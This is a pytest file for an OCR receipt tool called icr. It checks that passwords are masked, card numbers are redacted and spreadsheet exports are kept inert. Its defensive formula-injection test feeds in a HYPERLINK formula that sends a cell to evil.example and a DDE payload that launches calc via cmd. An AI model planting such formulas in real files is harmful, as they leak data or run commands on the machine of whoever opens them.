"""What icr shows, stores and exports keeps secrets secret: database passwords, card numbers,
spreadsheet formulas (issue 23)."""

from __future__ import annotations

import importlib.util
import signal
import subprocess
import sys
from pathlib import Path

import pytest
from click.testing import CliRunner
from sqlalchemy.engine import make_url
from test_faults_support import fake_config, subprocess_env

from icr.cli import main
from icr.db.database import shown_url

PASSWORD = "s3cr3t-pw"


def _with_password(url: str) -> str:
    return make_url(url).set(password=PASSWORD).render_as_string(hide_password=False)


@pytest.mark.postgres
def test_db_upgrade_and_watch_never_print_the_password(postgres_url: str, tmp_path: Path) -> None:
    url = _with_password(postgres_url)  # the test server trusts local connections whatever the password
    res = CliRunner().invoke(main, ["db", "upgrade", "--db", url])
    assert res.exit_code == 0, res.output
    assert ":***@" in res.output and PASSWORD not in res.output

    inbox = tmp_path / "inbox"
    inbox.mkdir()
    cmd = [sys.executable, "-m", "icr", "watch", str(inbox), "--db", url, "--interval", "0.2", "-j", "1"]
    cmd += ["--config", str(fake_config(tmp_path / "c.yaml"))]
    proc = subprocess.Popen(cmd, env=subprocess_env(), stderr=subprocess.PIPE, text=True)
    assert proc.stderr is not None
    start = proc.stderr.readline()
    proc.send_signal(signal.SIGTERM)
    rest = proc.communicate(timeout=30)[1]
    assert start.startswith("watching ") and ":***@" in start, start
    assert PASSWORD not in start + rest


@pytest.mark.parametrize(
    "url",
    [f"postgresql://icr:{PASSWORD}@db.example:5432/icr", f"postgresql+psycopg://icr:{PASSWORD}@db:bad-port/icr"],
)
def test_a_shown_url_masks_the_password_even_when_it_cannot_be_parsed(url: str) -> None:
    shown = shown_url(url)
    assert PASSWORD not in shown and "icr:***@" in shown


def test_an_invalid_url_error_does_not_show_the_password() -> None:
    res = CliRunner().invoke(main, ["db", "upgrade", "--db", f"postgresql://icr:{PASSWORD}@db:port/icr"])
    assert res.exit_code != 0
    assert PASSWORD not in res.output and "***" in res.output, res.output


CARD = "4111 1111 1111 1111"
CARD_LINES = ["CORNER SHOP", "DATE 04/07/2013", "TOTAL 12.59", f"VISA {CARD}", "AMEX 3782-822463-10005 APPROVED"]
FULL_NUMBERS = ("4111111111111111", CARD, "4111-1111", "378282246310005", "3782-822463-10005", "822463")


def _ingest(folder: Path, db: str, config: dict[str, object], tmp_path: Path) -> None:
    import yaml

    cfg = tmp_path / f"{folder.name}.yaml"
    cfg.write_text(yaml.safe_dump(config), encoding="utf-8")
    res = CliRunner().invoke(main, ["ingest", str(folder), "--db", db, "--jobs", "1", "-q", "--config", str(cfg)])
    assert res.exit_code == 0, res.output


def test_card_numbers_are_masked_in_everything_stored_and_exported(tmp_path: Path) -> None:
    # Raw OCR text (documents.ocr_text) and the export's "text" kept full card numbers, from an
    # image's OCR and from a typed PDF's text layer alike.
    import cv2
    import numpy as np
    from sqlalchemy import create_engine, text

    db = f"sqlite:///{tmp_path / 'cards.db'}"
    images = tmp_path / "images"
    images.mkdir()
    cv2.imwrite(str(images / "receipt.png"), np.full((64, 96), 255, np.uint8))
    quick = {"second_read": {"enabled": False}, "date_check": {"enabled": False}}
    replayed = {"stages": {"image_corrector": "none", "recognizer": "fake"}, "recognizer": {"fake_lines": CARD_LINES}}
    _ingest(images, db, quick | replayed, tmp_path)
    stored = 1
    if importlib.util.find_spec("pypdfium2"):
        from test_pdf import text_pdf

        typed = tmp_path / "typed"
        typed.mkdir()
        (typed / "invoice.pdf").write_bytes(text_pdf([CARD_LINES]))
        _ingest(typed, db, quick | {"stages": {"image_corrector": "none"}}, tmp_path)  # the text layer, no OCR
        stored = 2

    engine = create_engine(db)
    with engine.connect() as conn:
        docs = conn.execute(text("SELECT ocr_text, corrected_text FROM documents WHERE status = 'ok'")).all()
        fields = conn.execute(text("SELECT value, raw FROM fields")).all()
    engine.dispose()
    assert len(docs) == stored
    for ocr_text, _ in docs:
        assert "VISA XXXXXXXXXXXX1111" in ocr_text and "AMEX XXXXXXXXXXX0005 APPROVED" in ocr_text, ocr_text
    exports = [CliRunner().invoke(main, ["export", "--db", db, "--format", fmt]) for fmt in ("jsonl", "csv")]
    assert all(res.exit_code == 0 for res in exports)
    everything = "\n".join(
        [str(value) for row in [*docs, *fields] for value in row] + [res.output for res in exports]
    )
    assert "XXXXXXXXXXXX1111" in exports[0].output and "XXXXXXXXXXXX1111" in exports[1].output
    for number in FULL_NUMBERS:
        assert number not in everything, number


@pytest.mark.parametrize(
    ("printed", "stored"),
    [
        ("VISA 4111 1111 1111 1111", "VISA XXXXXXXXXXXX1111"),
        ("4111111111111111 2026", "XXXXXXXXXXXX1111 2026"),  # a card with another number after it
        ("AMEX 3782 822463 10005", "AMEX XXXXXXXXXXX0005"),
        ("6011-0009-9013-9424 12/26", "XXXXXXXXXXXX9424 12/26"),
        ("4222222222222", "XXXXXXXXX2222"),  # 13 digits
        ("TOTAL 4111 1111 1111 1112", "TOTAL 4111 1111 1111 1112"),  # fails the Luhn check: not a card
        ("REF 12345678901234567890123", "REF 12345678901234567890123"),  # 23 digits: no card is that long
    ],
)
def test_card_number_masking_keeps_only_the_last_four(printed: str, stored: str) -> None:
    from icr.text.parsers import mask_card_numbers

    assert mask_card_numbers(printed) == stored


HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def test_exports_and_reports_never_write_a_live_formula(tmp_path: Path) -> None:
    # A company name read as a formula was written raw to CSV and stored as a live formula in xlsx.
    import csv
    import io

    pytest.importorskip("openpyxl", reason="the reports extra is not installed")
    from openpyxl import load_workbook

    db = f"sqlite:///{tmp_path / 'f.db'}"
    images = tmp_path / "images"
    images.mkdir()
    import cv2
    import numpy as np

    cv2.imwrite(str(images / "r.png"), np.full((64, 96), 255, np.uint8))
    lines = [HOSTILE, "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1 -2+3", "DATE 04/07/2013", "DISCOUNT -7.43", "TOTAL 12.59"]
    config = {
        "stages": {"image_corrector": "none", "recognizer": "fake", "text_corrector": "fake"},
        "recognizer": {"fake_lines": lines},
        "forms": {"enabled": False},  # a receipt: its company is the hostile first line
    }
    _ingest(images, db, config, tmp_path)

    def cells(text: str) -> list[str]:
        return [cell for row in csv.reader(io.StringIO(text)) for cell in row]

    export = CliRunner().invoke(main, ["export", "--db", db, "--format", "csv"])
    report_csv = tmp_path / "receipts.csv"
    res = CliRunner().invoke(main, ["report", "receipts", "--db", db, "-o", str(report_csv)])
    assert export.exit_code == 0 and res.exit_code == 0, export.output + res.output
    for written in (cells(export.output), cells(report_csv.read_text(encoding="utf-8"))):
        assert f"'{HOSTILE}" in written  # readable, with the quote spreadsheets hide
        assert not [c for c in written if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and "+" in c)]
    assert "12.59" in cells(report_csv.read_text(encoding="utf-8"))

    xlsx = tmp_path / "receipts.xlsx"
    res = CliRunner().invoke(main, ["report", "receipts", "--db", db, "-o", str(xlsx)])
    assert res.exit_code == 0, res.output
    sheet = load_workbook(xlsx).active
    assert sheet is not None
    values = [cell for row in sheet.iter_rows() for cell in row]
    assert not [c.value for c in values if c.data_type == "f"]
    assert HOSTILE in [c.value for c in values if c.data_type == "s"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [("=1+1", "'=1+1"), ("+1", "+1"), ("-7.43", "-7.43"), ("-2+3", "'-2+3"), ("@A1", "'@A1"), ("\t=1", "'\t=1")],
)
def test_a_cell_that_could_run_is_quoted(value: str, cell: str) -> None:
    from icr.cells import inert

    assert inert(value) == cell
